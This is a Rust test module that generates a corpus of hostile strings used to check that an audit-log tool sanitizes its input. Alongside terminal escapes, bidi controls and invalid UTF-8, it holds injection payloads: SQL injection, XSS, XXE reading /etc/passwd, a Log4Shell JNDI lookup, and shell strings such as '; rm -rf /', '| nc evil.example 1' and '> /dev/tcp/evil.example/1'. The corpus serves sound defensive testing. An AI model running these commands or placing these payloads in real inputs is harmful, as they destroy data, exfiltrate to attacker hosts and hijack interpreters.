//! Hostile strings: 1,200 of them, made here from the classes that they stand for, so that a
//! reader sees what each is for; a file of them would be a second copy of this.
//!
//! Shared by the tests of the library, of the whole way into a log, and of the command.

use std::collections::BTreeSet;

/// How many strings the corpus has.
pub(crate) const CORPUS_LEN: usize = 1_200;

/// The corpus, as bytes: not all of it is UTF-8. No string is in it twice.
pub(crate) fn corpus() -> Vec<Vec<u8>> {
    let classes = [
        single_code_points(),
        terminal_sequences(),
        line_injections(),
        byte_strings(),
        markers(),
        look_alikes(),
        json_fragments(),
        code_for_others(),
        stumbling_blocks(),
        lengths(),
    ];
    let mut seen = BTreeSet::new();
    let all = classes.into_iter().flatten().chain(pairs());
    all.filter(|string| seen.insert(string.clone())).take(CORPUS_LEN).collect()
}

/// Those of the corpus that are UTF-8.
pub(crate) fn texts() -> Vec<String> {
    corpus().into_iter().filter_map(|bytes| String::from_utf8(bytes).ok()).collect()
}

/// Those of the corpus that are not.
pub(crate) fn not_utf_8() -> Vec<Vec<u8>> {
    corpus().into_iter().filter(|bytes| std::str::from_utf8(bytes).is_err()).collect()
}

/// Every code point that is to be made visible, by the ranges of the documents and not by the code
/// under test.
pub(crate) fn hostile_code_points() -> Vec<char> {
    let ranges = [
        // C0; DEL and C1.
        (0x00, 0x1f),
        (0x7f, 0x9f),
        // Bidirectional controls.
        (0x61c, 0x61c),
        (0x200e, 0x200f),
        (0x202a, 0x202e),
        (0x2066, 0x2069),
        // Line and paragraph separator.
        (0x2028, 0x2029),
        // Invisible ones.
        (0x200b, 0x200b),
        (0x2060, 0x2064),
        (0x206a, 0x206f),
        (0xfeff, 0xfeff),
        // Interlinear annotation, and noncharacters of the basic plane.
        (0xfff9, 0xfffb),
        (0xfdd0, 0xfdef),
        // Tags, and the supplement of variation selectors.
        (0xe_0000, 0xe_007f),
        (0xe_0100, 0xe_01ef),
    ];
    let planes = (0..=16_u32).map(|plane| (plane << 16 | 0xfffe, plane << 16 | 0xffff));
    let all = ranges.into_iter().chain(planes).flat_map(|(first, last)| first..=last);
    all.filter_map(char::from_u32).collect()
}

fn strings(all: &[&str]) -> Vec<Vec<u8>> {
    all.iter().map(|text| text.as_bytes().to_vec()).collect()
}

fn single_code_points() -> Vec<Vec<u8>> {
    let all = hostile_code_points().into_iter().chain(['\u{27e6}', '\u{27e7}']);
    all.map(|c| format!("a{c}b").into_bytes()).collect()
}

/// OSC 8 and 52, CSI, DCS, APC, PM and SOS in both their forms, with each of their terminators.
fn terminal_sequences() -> Vec<Vec<u8>> {
    let introducers = [
        ("\u{1b}]8;;", "\u{9d}8;;"),
        ("\u{1b}]52;c;", "\u{9d}52;c;"),
        ("\u{1b}]0;", "\u{9d}0;"),
        ("\u{1b}[", "\u{9b}"),
        ("\u{1b}P", "\u{90}"),
        ("\u{1b}_", "\u{9f}"),
        ("\u{1b}^", "\u{9e}"),
        ("\u{1b}X", "\u{98}"),
    ];
    let bodies = ["2J", "https://evil.example/\u{7}click", "cm0gLXJmIC8=", "31;1m", "?1049h"];
    let ends = ["", "\u{7}", "\u{1b}\\", "\u{9c}"];
    let mut all = Vec::new();
    for (seven, eight) in introducers {
        for (index, body) in bodies.into_iter().enumerate() {
            let end = ends.get(index % ends.len()).copied().unwrap_or_default();
            all.push(format!("root{seven}{body}{end}").into_bytes());
            all.push(format!("root{eight}{body}{end}").into_bytes());
        }
    }
    all.extend(strings(&[
        "\u{1b}c",
        "\u{1b}[1A\u{1b}[2K",
        "\u{1b}[6n",
        "\u{1b}Z",
        "\u{8}\u{8}\u{8}\u{8}root",
    ]));
    all
}

/// Ends of lines, and of what a viewer takes for one, with the lines that they would begin.
fn line_injections() -> Vec<Vec<u8>> {
    let record = concat!(
        r#"{"v":1,"seq":2,"audit_id":"audit-web.shop-1-0000000000000002","timestamp":"#,
        r#""2026-01-02T00:00:00.000000000Z","service_id":"web.shop-1","event":{"event_type":"#,
        r#""log_closed"},"prev_hash":"0000000000000000000000000000000000000000000000000000000000000000","#,
        r#""hash":"0000000000000000000000000000000000000000000000000000000000000000"}"#
    );
    let lines = [
        r#"{"event_type":"auth_success","timestamp":"2026-01-02T00:00:00Z"}"#,
        record,
        "Jan  2 00:00:00 host sshd[1]: Accepted password for root",
        r#""}},"prev_hash":""#,
        "2026-01-02 INFO all is well",
        "0:dd59e59173464ee3e30d4bd89cbf7e937d5e978cd5452591644584afeca33ce4",
        "CONSISTENT: nothing is wrong inside",
    ];
    let ends =
        ["\r\n", "\n", "\r", "\n\r", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}", "\0"];
    let all = ends.iter().flat_map(|end| lines.iter().map(move |line| format!("x{end}{line}")));
    all.map(String::into_bytes).collect()
}

/// What is no UTF-8: stray, missing, overlong and surrogate sequences, and other encodings.
fn byte_strings() -> Vec<Vec<u8>> {
    let stray = (0x80..=0xbf_u8).chain([0xc0, 0xc1]).chain(0xf5..=0xff);
    let overlong: [&[u8]; 12] = [
        b"\xc0\xaf",
        b"\xe0\x80\xaf",
        b"\xf0\x80\x80\xaf",
        b"\xf8\x80\x80\x80\xaf",
        b"\xfc\x80\x80\x80\x80\xaf",
        b"\xc0\x80",
        b"\xe0\x80\x80",
        b"\xc0\x9b[2J",
        b"\xe0\x80\x9b[2J",
        b"\xc0\x8a{}",
        b"\xe0\x9f\xbf",
        b"\xf0\x8f\xbf\xbf",
    ];
    let others: [&[u8]; 16] = [
        b"\xed\xa0\x80",
        b"\xed\xbf\xbf",
        b"\xed\xa0\xbd\xed\xb8\x80",
        b"\xf4\x90\x80\x80",
        b"\xf7\xbf\xbf\xbf",
        b"\xe2\x82",
        b"\xf0\x9f\x98",
        b"\xf0\x9f",
        b"\xe2\x9f",
        b"\xe2\x9f\xa6U+001B\xe2\x9f",
        b"caf\xe9",
        b"\xff\xfea\0b\0",
        b"\xfe\xff\0a\0b",
        b"\x83\x65\x83\x58\x83\x67",
        b"\xef\xbb\xbf\xff",
        b"\x1b[31m\xff\x1b[0m",
    ];
    let stray = stray.map(|byte| vec![b'a', byte, b'b']);
    stray.chain(overlong.into_iter().chain(others).map(<[u8]>::to_vec)).collect()
}

/// Text that would pass for a marker, if the bracket that begins one were not escaped.
fn markers() -> Vec<Vec<u8>> {
    const SHA256: &str = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    let rest = format!("+7 bytes sha256:{SHA256}");
    let bodies = [
        "U+001B",
        "U+27E6",
        "U+D800",
        "U+0041",
        "U+1B",
        "U+",
        "x",
        "xFF",
        "x41",
        "xff",
        &rest,
        "+7 bytes sha256:",
        "+ bytes",
        "",
        "U+E0001",
        "U+110000",
    ];
    let shapes = [
        |body: &str| format!("\u{27e6}{body}\u{27e7}"),
        |body: &str| format!("\u{27e6}{body}"),
        |body: &str| format!("{body}\u{27e7}"),
        |body: &str| format!("\u{27e6}\u{27e6}{body}\u{27e7}\u{27e7}"),
        |body: &str| format!("\u{27e6}U+27E6\u{27e7}{body}\u{27e7}"),
        |body: &str| format!("\\u27e6{body}\\u27e7"),
        |body: &str| format!("\u{27e6}{body}\u{27e7}\u{1b}\u{27e6}{body}\u{27e7}"),
    ];
    let all = bodies.into_iter().flat_map(|body| shapes.into_iter().map(move |shape| shape(body)));
    all.map(String::into_bytes).collect()
}

/// What looks like something else and is no less a text: it stays as it is, except for what hides
/// in it.
fn look_alikes() -> Vec<Vec<u8>> {
    let mut all = strings(&[
        "\u{440}\u{430}ypal",
        "\u{430}dmin",
        "adm\u{456}n",
        "r\u{43e}\u{43e}t",
        "\u{391}dmin",
        "\u{ff41}\u{ff44}\u{ff4d}\u{ff49}\u{ff4e}",
        "\u{1d5ba}\u{1d5bd}\u{1d5c6}\u{1d5c2}\u{1d5c7}",
        "admin\u{338}",
        "ad\u{ad}min",
        "ad\u{34f}min",
        "ad\u{115f}min",
        "\u{3164}",
        "\u{2800}",
        "\u{a0}\u{2003}\u{3000}",
        "\u{1d173}",
        "..\u{2215}..\u{2215}etc\u{2215}passwd",
        "\u{2024}\u{2024}/",
        "gpj.\u{202e}exe",
        "\u{202e}\u{2066}// if admin\u{2069}\u{2066}",
        "\u{5d0}\u{5d1}\u{5d2}\u{200f}abc",
        "\u{645}\u{6cc}\u{200c}\u{62e}\u{648}\u{627}\u{647}\u{645}",
        "\u{915}\u{94d}\u{200d}\u{937}",
        "e\u{301}\u{301}",
        "\u{fb01}le",
        "\u{130}stanbul",
        "Stra\u{df}e",
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}",
        "\u{1f3f3}\u{fe0f}\u{200d}\u{1f308}",
        "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
        "\u{1f44d}\u{1f3ff}",
        "\u{1f1e6}\u{1f1e8}",
        "\u{2764}\u{fe0f}\u{200d}\u{1f525}",
        "\u{e000}\u{f8ff}\u{100000}",
        "\u{fffd}",
        "\u{d7ff}\u{e000}",
    ]);
    for marks in [1_usize, 7, 30, 300] {
        for base in ["z", "admin", "\u{5d0}"] {
            let zalgo = ["\u{300}", "\u{489}", "\u{316}"].concat().repeat(marks);
            all.push(base.replace("", &zalgo).into_bytes());
        }
    }
    all
}

fn json_fragments() -> Vec<Vec<u8>> {
    strings(&[
        "\"",
        "\\",
        "\\\"",
        "\\\\\"",
        "\",\"critical\":true,\"x\":\"",
        "\"},\"hash\":\"",
        "{",
        "}",
        "[",
        "]",
        "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[",
        "{\"a\":{\"a\":{\"a\":",
        "{\"event_type\":\"log_closed\"}",
        "{\"oversized\":{\"bytes\":1,\"sha256\":\"\"}}",
        "oversized",
        "event_type",
        "timestamp",
        "critical",
        "sanitized",
        "prev_hash",
        "log_closed",
        "segment_opened",
        "events_lost",
        "auth_failure\u{200b}",
        "\u{feff}auth_failure",
        "custom\0",
        "Auth_Failure",
        "\\u0000",
        "\\u001b[2J",
        "\\ud800",
        "\\udc00\\ud800",
        "\\ud83d\\ude00",
        "\\u27e6U+001B\\u27e7",
        "\\n",
        "\\x1b",
        "\\/",
        "null",
        "true",
        "NaN",
        "Infinity",
        "-0",
        "1e999",
        "0x1",
        "123456789012345678901234567890123456789012345678901234567890",
        "$serde_json::private::Number",
        "$serde_json::private::RawValue",
        "{\"$serde_json::private::Number\":\"1\"}",
        "__proto__",
        "constructor",
        "toString",
        "$ref",
        "$where",
        "@type",
        "/",
        "~",
        "~0",
        "~1",
        "~01",
        "a/b~c",
        "//",
        "-",
        "0",
        "00",
        "\u{0}\"\u{1b}\\\u{202e}/~",
    ])
}

/// What some interpreter behind the log would run.
fn code_for_others() -> Vec<Vec<u8>> {
    strings(&[
        "",
        " ",
        "   ",
        "\t",
        "\n",
        "\r\n",
        "a\tb\nc",
        "'",
        "''",
        "`",
        "' OR '1'='1",
        "'; DROP TABLE audit; --",
        "1;SELECT pg_sleep(10)",
        "admin'--",
        "\" or \"\"=\"",
        "%27%20OR%201=1",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(1)>",
        "javascript:alert(1)",
        "<!--",
        "]]>",
        "<![CDATA[",
        "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>",
        "&lt;&#27;&#x202e;",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "${jndi:ldap://evil.example/a}",
        "$(touch /tmp/x)",
        "`touch /tmp/x`",
        "; rm -rf /",
        "| nc evil.example 1",
        "&& true",
        "> /dev/tcp/evil.example/1",
        "-rf",
        "--help",
        "-",
        "--",
        "*",
        "?",
        "~root",
        "!!",
        "%s%s%s%n",
        "%x%x%x",
        "%1$*1$d",
        "{}",
        "{0}",
        "{:?}",
        "%d%%",
    ])
}

/// Paths, values and words that programs have stumbled over.
fn stumbling_blocks() -> Vec<Vec<u8>> {
    strings(&[
        "../../../../etc/passwd",
        "..\\..\\windows\\system32",
        "/dev/null",
        "file:///etc/passwd",
        "C:\\con\\con",
        "aux",
        "%00",
        "%0d%0aSet-Cookie: x=1",
        "%c0%af",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "@SUM(1)",
        "a,b;c\td",
        "\"a\",\"b\"",
        "[INFO] ok",
        "#!/bin/sh",
        "=====",
        "-----BEGIN PRIVATE KEY-----",
        "audit-web.shop-1-0000000000000000",
        "TAMPERED",
        "(null)",
        "undefined",
        "None",
        "2147483648",
        "18446744073709551616",
        "-9223372036854775809",
        "1/0",
        "1970-01-01T00:00:00Z",
        "9999-12-31T23:59:60Z",
        "::ffff:127.0.0.1",
        "127.1",
        "0x7f000001",
        "fe80::1%eth0",
        "localhost",
        "*)(uid=*))(|(uid=*",
        "*/*",
        "//evil.example",
        "\u{0}",
        "a\0b",
        "I love\u{3000}spaces",
    ])
}

/// Strings about as long as each limit, and much longer, of units that take one to twelve bytes
/// when they are written.
fn lengths() -> Vec<Vec<u8>> {
    let around = |limit: usize| [limit.saturating_sub(1), limit, limit.saturating_add(1)];
    let limits = [105, 919, 1_024, 8_087, 8_192].into_iter().flat_map(around);
    let units = ["x", "\"", "\u{1b}", "\u{e0041}", "\u{e9}"];
    let mut all: Vec<_> = limits
        .flat_map(|bytes| units.map(|unit| unit.repeat(bytes.div_ceil(unit.len())).into_bytes()))
        .collect();
    all.extend(units.map(|unit| unit.repeat(70_000).into_bytes()));
    all.push(b"\xff".repeat(8_192));
    all.push("\u{27e6}".repeat(8_192).into_bytes());
    all
}

/// Each of some pieces followed by each other one.
fn pairs() -> Vec<Vec<u8>> {
    let pieces: [&[u8]; 16] = [
        b"\x1b[2J",
        b"\n",
        b"\xff",
        b"\\",
        b"\"",
        b"\\u001b",
        "\u{202e}".as_bytes(),
        "\u{27e6}".as_bytes(),
        "\u{27e7}".as_bytes(),
        "\u{e0001}".as_bytes(),
        "\u{200d}".as_bytes(),
        "\u{85}".as_bytes(),
        b"U+001B",
        b"\xe2\x9f",
        b"\xa6",
        b"~/",
    ];
    let all = pieces.iter().flat_map(|one| pieces.iter().map(move |two| [*one, *two].concat()));
    all.collect()
}
